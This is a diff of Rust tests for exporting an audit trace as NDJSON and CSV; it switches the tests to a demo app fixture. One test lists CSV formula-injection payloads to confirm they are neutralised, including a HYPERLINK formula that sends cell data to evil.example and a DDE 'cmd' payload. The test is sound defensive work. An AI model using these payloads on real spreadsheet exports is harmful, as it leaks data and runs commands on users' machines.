@@ -7,7 +7,8 @@ use crate::helpers::*;
 
 #[tokio::test]
 async fn ig_staff_export_the_trace_as_ndjson_and_csv() {
-    let app = spawn_app().await;
+    // TODO(fixtures): on the demo
+    let app = spawn_demo_app().await;
     three_reads(&app).await;
     let ig_token = app.token_for("ig-auditor");
     let expected = trace(&app, json!({ "childId": AMIRA, "action": "READ" })).await;
@@ -142,7 +143,8 @@ fn csv_cells(row: &str) -> Vec<String> {
 
 #[tokio::test]
 async fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
-    let app = spawn_app().await;
+    // TODO(fixtures): on the demo
+    let app = spawn_demo_app().await;
     let subjects = [
         "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
         "+1+cmd|' /C calc'!A0",
@@ -199,7 +201,8 @@ async fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
 
 #[tokio::test]
 async fn a_nul_in_a_trace_filter_is_bad_input() {
-    let app = spawn_app().await;
+    // TODO(fixtures): on the demo
+    let app = spawn_demo_app().await;
     three_reads(&app).await;
     let ig_token = app.token_for("ig-auditor");
     for (query, parameter) in [
